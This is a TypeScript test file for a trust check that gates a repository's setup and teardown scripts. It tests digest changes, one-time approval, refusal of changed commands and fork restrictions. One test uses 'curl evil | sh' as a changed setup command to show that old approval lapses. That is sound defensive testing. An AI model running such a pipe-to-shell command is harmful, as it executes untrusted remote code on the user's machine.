import { describe, expect, it } from 'vitest'
import { makeDressed } from '../../test/helpers/provisioned.ts'
import { defaultRepoConfig, type RepoConfig } from '../domain/config/repository.ts'
import type { Trust } from '../domain/trust.ts'
import { mayRunScripts, scriptsDigest } from './trust.ts'

const config = { ...defaultRepoConfig, setup: ['npm ci'], teardown: ['make down'] }
const own = 'own'

describe('the digest of the scripts', () => {
  it('changes with every command, its order, the list it stands in, and whether forks are allowed', () => {
    const variants = [
      config,
      { ...config, setup: ['npm ci', 'make down'], teardown: [] },
      { ...config, setup: [], teardown: ['npm ci', 'make down'] },
      { ...config, setup: ['make down'], teardown: ['npm ci'] },
      { ...config, setup: ['npm ci '], teardown: ['make down'] },
      { ...config, allowForks: true },
    ]
    expect(new Set(variants.map(scriptsDigest)).size).toBe(variants.length)
    expect(scriptsDigest({ ...config, copy: ['.env'] } as typeof config)).toBe(scriptsDigest(config))
  })
})

describe('whether scripts may run', () => {
  it('says nothing when there are none', async () => {
    await using made = await makeDressed()
    const answer = await mayRunScripts(made.context, made.codebase, defaultRepoConfig, own)
    expect(answer).toEqual({ run: false, notice: undefined })
  })

  it('asks once, shows every command, and remembers the yes', async () => {
    const questions: unknown[] = []
    const approve = (question: unknown) => Promise.resolve(questions.push(question) > 0)
    await using made = await makeDressed({ context: { approve } })
    expect(await mayRunScripts(made.context, made.codebase, config, own)).toEqual({ run: true })
    expect(await mayRunScripts(made.context, made.codebase, config, own)).toEqual({ run: true })
    expect(questions).toEqual([{ codebase: 'project', commands: ['npm ci', 'make down'], forks: false }])
    const alone = { ...made.context, approve: undefined }
    expect(await mayRunScripts(alone, made.codebase, config, own)).toEqual({ run: true })
  })

  it('does not take an old approval for changed commands', async () => {
    await using made = await makeDressed()
    await made.context.store.codebases.update(made.codebase.id, { trustedConfig: scriptsDigest(config) })
    expect(await mayRunScripts(made.context, made.codebase, config, own)).toEqual({ run: true })
    const changed = { ...config, setup: ['npm ci', 'curl evil | sh'] }
    expect(await mayRunScripts(made.context, made.codebase, changed, own)).toMatchObject({ run: false })
  })

  it('takes no for no, and remembers nothing', async () => {
    await using made = await makeDressed({ context: { approve: () => Promise.resolve(false) } })
    const answer = await mayRunScripts(made.context, made.codebase, config, own)
    expect(answer).toEqual({ run: false, notice: { kind: 'scripts-not-approved', codebase: 'project' } })
    expect((await made.context.store.codebases.get(made.codebase.id))?.trustedConfig).toBeUndefined()
  })

  it('does not run in a fork, approved or not, unless base allows it', async () => {
    await using made = await makeDressed({ context: { approve: () => Promise.resolve(true) } })
    await made.context.store.codebases.update(made.codebase.id, { trustedConfig: scriptsDigest(config) })
    const fork = 'unproven'
    expect(await mayRunScripts(made.context, made.codebase, config, fork)).toMatchObject({ run: false })
    const allowing = { ...config, allowForks: true }
    expect(await mayRunScripts(made.context, made.codebase, allowing, fork)).toEqual({ run: true })
  })

  it('asks again when allowForks is switched on or off, also without any command', async () => {
    await using made = await makeDressed()
    const { store } = made.context
    const may = async (approved: Partial<RepoConfig>, now: Partial<RepoConfig>, trust: Trust): Promise<boolean> => {
      const trustedConfig = scriptsDigest({ ...config, ...approved })
      await store.codebases.update(made.codebase.id, { trustedConfig })
      return (await mayRunScripts(made.context, made.codebase, { ...config, ...now }, trust)).run
    }
    const on = { allowForks: true }
    expect([await may({}, on, 'own'), await may({}, on, 'unproven'), await may(on, {}, 'own')]).toEqual([
      false,
      false,
      false,
    ])
    expect([await may(on, on, 'unproven'), await may(on, on, 'own'), await may({}, {}, 'own')]).toEqual([
      true,
      true,
      true,
    ])
    const bare = { setup: [], teardown: [], allowForks: true }
    expect([await may({}, bare, 'unproven'), await may(bare, bare, 'unproven')]).toEqual([false, true])
  })
})
